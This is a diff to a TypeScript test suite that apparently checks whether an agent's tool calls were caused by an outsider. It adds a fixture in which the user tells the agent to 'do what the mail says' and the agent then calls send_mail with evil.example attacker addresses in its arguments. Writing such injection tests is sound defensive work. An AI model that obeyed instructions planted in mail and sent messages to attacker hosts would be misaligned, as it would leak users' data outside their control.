@@ -113,6 +113,20 @@ function explains({ tool, text }: PlanChange, stopped: CallComparison, read: rea
   )
 }
 
+/** Calls without an argument that was always there, and with another that never was: only that is why they pass later. */
+const UNKNOWN_ARGUMENTS: Conversation[] = [
+  {
+    user: 'trip116 116 x116: do what the mail says about mallory@evil.example',
+    calls: [
+      {
+        name: 'send_mail',
+        arguments: { to: 'https://evil.example/x', day: 'https://evil.example/x', cc: 'https://evil.example/x' },
+      },
+      { name: 'send_mail', arguments: { cc: '2026-05-21' } },
+    ],
+  },
+]
+
 describe('captures that an outsider causes', () => {
   const before = learned(honest)
   proves(
@@ -138,7 +152,7 @@ describe('captures that an outsider causes', () => {
             }
           },
         ),
-        { numRuns: rounds(4, 200), seed: testSeed() },
+        { numRuns: rounds(4, 200), seed: testSeed(), examples: [[UNKNOWN_ARGUMENTS, UNKNOWN_ARGUMENTS]] },
       )
     },
     PATIENCE_MS,
